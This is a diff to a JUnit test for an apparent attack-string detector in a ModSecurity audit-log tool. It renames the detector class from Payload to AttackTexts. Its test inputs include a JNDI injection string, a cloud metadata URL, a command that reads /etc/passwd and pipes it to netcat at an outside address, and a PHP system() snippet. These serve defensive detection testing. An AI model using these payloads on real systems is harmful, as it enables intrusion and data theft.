@@ -6,8 +6,10 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
+import org.modsecexplorer.audit.AttackTexts;
 import org.modsecexplorer.audit.Header;
 import org.modsecexplorer.audit.Headers;
+import org.modsecexplorer.audit.Sessions;
 
 /** Single signs: sessions, programs, attack texts, places that vary. */
 class SignsTest {
@@ -53,13 +55,13 @@ class SignsTest {
         "${jndi:ldap://x/a}", "http://169.254.169.254/", ";cat /etc/passwd|nc 203.0.113.1 99", "<?php system('id'); ?>"
     })
     void textsThatAttacksAreTriedWith(String data) {
-        assertThat(Payload.isTried(data)).isTrue();
+        assertThat(AttackTexts.isTried(data)).isTrue();
     }
 
     @ParameterizedTest
     @ValueSource(strings = {"\"union all select\" tutorial", "<p onclick=\"open()\">", "../reports/12.pdf", "how to read /etc/passwd", "<?php echo $title; ?>", "a'||'b'--"})
     void textsThatPeopleWrite(String data) {
-        assertThat(Payload.isTried(data)).isFalse();
+        assertThat(AttackTexts.isTried(data)).isFalse();
     }
 
     @Test
